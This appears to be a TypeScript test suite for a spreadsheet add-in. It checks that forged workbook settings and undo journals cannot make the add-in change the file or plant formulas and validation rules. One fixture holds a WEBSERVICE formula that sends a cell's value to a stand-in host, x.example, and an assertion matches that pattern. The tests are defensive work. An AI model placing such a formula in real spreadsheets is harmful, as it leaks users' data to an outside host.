import assert from "node:assert/strict";
import { bookSettings } from "../../../src/operations/book-settings";
import { undoLast } from "../../../src/operations/journal";
import { readBook } from "../../../src/operations/read-book";
import { defaultProfile } from "../../../src/profile/index";
import { gridOf } from "../../../src/sheet/grid";
import { openWorkbook, type FileWorkbook } from "../../../src/workbook/file/index";
import { digestOf } from "../../../src/workbook/file/writing/draft/draft-edits";
import { deskComputer } from "../../support/desk-computer";
import { XLSX, unzip, written } from "../file/kit";
import { forgedJournals, forgedSettings } from "./forged";
import type { Forgery, Images } from "./forged";

const rows = {
  台账: [
    ["姓名", "状态", "电话"],
    ["张三", "已化解", "13800000000"],
    ["王二", "化解中", "13800000001"],
  ],
  检查结果: [["我自己的结果"], ["重要"]],
  汇总: [["合计"], ["三"]],
};

const contentOf = (name: string): string[][] =>
  Object.hasOwn(rows, name) ? rows[name as keyof typeof rows] : [["x"]];

const digest = (name: string): string => digestOf(gridOf(name, contentOf(name), "台账.xlsx"));

const images: Images = {
  // On the page undo would write the cell's source as it stands there.
  cells: (before, after, sheet = "台账") => ({
    kind: "cells",
    sheet,
    cells: [
      [
        1,
        0,
        before,
        after,
        '<c r="A2"><f>WEBSERVICE("http://x.example/?"&amp;B2)</f></c>',
        "General",
      ],
    ],
  }),
  sheet: (name) => ({ kind: "sheet", name, digest: digest(name), replaced: null }),
  replaced: (name) => ({
    kind: "sheet",
    name,
    digest: digest(name),
    replaced: { name, index: 0, names: [], styles: [], source: "9:AAAA", relations: [] },
  }),
  rules: {
    kind: "rules",
    sheet: "台账",
    before: '<dataValidations count="1"><dataValidation sqref="A1"/></dataValidations>',
    after: "",
  },
  marks: { kind: "marks", sheet: "台账", areas: {} },
};

async function forgedFile(settings: Readonly<Record<string, unknown>>): Promise<Uint8Array> {
  const book = XLSX.utils.book_new();
  for (const [name, cells] of Object.entries(rows))
    XLSX.utils.book_append_sheet(book, XLSX.utils.aoa_to_sheet(cells), name);
  const workbook = await openWorkbook(written(book, "xlsx"), "台账.xlsx");
  await workbook.settings.set("other.addin", "its own");
  for (const [key, value] of Object.entries(settings))
    await workbook.settings.set(key, String(value));
  return workbook.save();
}

const open = (bytes: Uint8Array): Promise<FileWorkbook> =>
  openWorkbook(bytes, "台账.xlsx", undefined, deskComputer("this-desk"));

const partsOf = async (workbook: FileWorkbook): Promise<Map<string, string>> =>
  new Map(
    [...unzip(await workbook.save())].map(([path, bytes]) => [
      path,
      Buffer.from(bytes).toString("utf8"),
    ]),
  );

const forgeries = [...forgedJournals(images), ...forgedSettings];

/** What is larger than a file may keep never gets there. */
const fits = async ({ settings }: Forgery): Promise<boolean> =>
  Object.values(await settings()).every((text) => String(text).length < 4_000_000);

describe(`workbook/file: ${forgeries.length} forged workbooks`, function () {
  this.timeout(30_000);
  for (const forgery of forgeries) {
    it(`does nothing of itself and says so: ${forgery.name}`, async function () {
      if (!(await fits(forgery))) this.skip();
      const workbook = await open(await forgedFile(await forgery.settings()));
      const before = await partsOf(workbook);
      await readBook(workbook, defaultProfile);
      const brings = await bookSettings(workbook);
      const undone = await undoLast(workbook);
      if (undone !== null) assert.notEqual(undone.review, null, "it was undone");
      assert.deepEqual(await partsOf(workbook), before);
      const said: Record<Forgery["said"], boolean> = {
        asked: undone !== null,
        dropped: brings.unreadable.length > 0,
        unproven: brings.unproven.length > 0,
        brings: brings.profile || brings.columns + brings.kinds + brings.ignored > 0,
        nothing: true,
      };
      assert.ok(said[forgery.said], JSON.stringify({ said, brings }));
    });

    it(`keeps what is the clerk's even when he agrees: ${forgery.name}`, async function () {
      if (!(await fits(forgery))) this.skip();
      const workbook = await open(await forgedFile(await forgery.settings()));
      const before = await partsOf(workbook);
      await undoLast(workbook, { agreed: true });
      const after = await partsOf(workbook);
      assert.deepEqual([...after.keys()].sort(), [...before.keys()].sort());
      for (const [path, text] of after) {
        assert.equal(/<(\w+:)?f[\s>]|WEBSERVICE\(.*<\/f>/.test(text), false, path);
        assert.equal(text.includes("<dataValidation"), false, path);
      }
      assert.equal(await workbook.settings.get("other.addin"), "its own");
      const cells = (await workbook.read("台账")).values;
      assert.deepEqual(cells[0], rows.台账[0]);
      assert.deepEqual(cells[2], rows.台账[2]);
    });
  }

  it("counts a ledger that is said to be the add-in's own", async () => {
    const workbook = await open(await forgedFile({ "taizhang.owned": '["台账"]' }));
    const book = await readBook(workbook, defaultProfile);
    assert.equal(book.sheets.find(({ info }) => info.name === "台账")?.owned, false);
  });
});
